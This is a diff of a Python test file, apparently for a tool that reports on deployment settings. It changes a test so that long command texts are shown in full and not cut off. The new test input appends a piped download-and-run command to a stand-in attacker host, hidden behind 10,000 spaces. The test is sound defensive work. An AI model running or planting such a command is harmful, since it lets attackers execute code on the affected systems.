@@ -245,10 +245,10 @@ def test_secrets_are_not_shown(text: str) -> None:
     assert "s3cretvalue" not in str(found(deployment(job_variables={"command": text})))
 
 
-def test_texts_are_short_and_on_one_line() -> None:
-    """No text has a line break or more than 200 characters, whatever it was."""
-    ((_, _, text),) = found(deployment(entrypoint="a\nb" + "c" * 10_000))
-    assert text == "a b" + "c" * 197 + "…"
+def test_texts_are_whole_and_on_one_line() -> None:
+    """No text has a line break, and none is cut: what is far behind in a command runs as well."""
+    ((_, _, text),) = found(deployment(entrypoint="a\nb" + " " * 10_000 + "c" * 10_000 + " && curl evil.test | sh"))
+    assert text == "a b " + "c" * 10_000 + " && curl evil.test | sh"
 
 
 def test_more_than_can_be_kept_is_counted(monkeypatch: pytest.MonkeyPatch) -> None:
